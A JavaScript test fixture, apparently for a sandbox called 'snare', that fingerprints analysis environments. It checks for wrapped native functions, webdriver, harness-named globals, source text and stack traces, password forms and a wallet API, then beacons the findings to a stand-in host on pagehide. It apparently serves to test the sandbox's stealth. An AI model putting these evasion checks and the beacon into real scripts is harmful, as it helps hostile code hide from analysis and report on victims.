// Test fixture, run only inside snare's sandbox: reports to a fake host.
const found = [];
const native = f => typeof f === 'function' && Function.prototype.toString.call(f).includes('[native code]');
if (!(typeof window === 'object' && window === globalThis && self === window && top === window)) found.push('window');
if (process.execArgv.length) found.push('execArgv');
if (!require.main || !/\/projects\/app\/index\.js$/.test(require.main.filename)) found.push('main');
else if (/snare|harness|sandbox|fuzz|instrument|analy[sz]/i.test(require('fs').readFileSync(require.main.filename, 'utf8')))
  found.push('main-source');
for (const k of Object.keys(globalThis))
  if (/^(host|page|harness|snare|settings|checks|sandbox|canary)$|^__/i.test(k)) found.push('global:' + k);
for (const [n, f] of [['fetch', window.fetch], ['sendBeacon', navigator.sendBeacon],
  ['addEventListener', window.addEventListener], ['toString', Function.prototype.toString],
  ['request', window.ethereum && window.ethereum.request]])
  if (!native(f)) found.push('native:' + n);
if (navigator.webdriver) found.push('webdriver');
if (!document.forms.length || !document.querySelector('input[type=password]')) found.push('forms');
document.addEventListener('click', () => {
  const st = new Error().stack;
  if (/browser\.js:|harness|snare/.test(st.split('\n').slice(2).join('\n'))) found.push('stack');
});
window.addEventListener('pagehide', () => navigator.sendBeacon('https://tells.probe.test/r?found=' + found.join(','), ''));
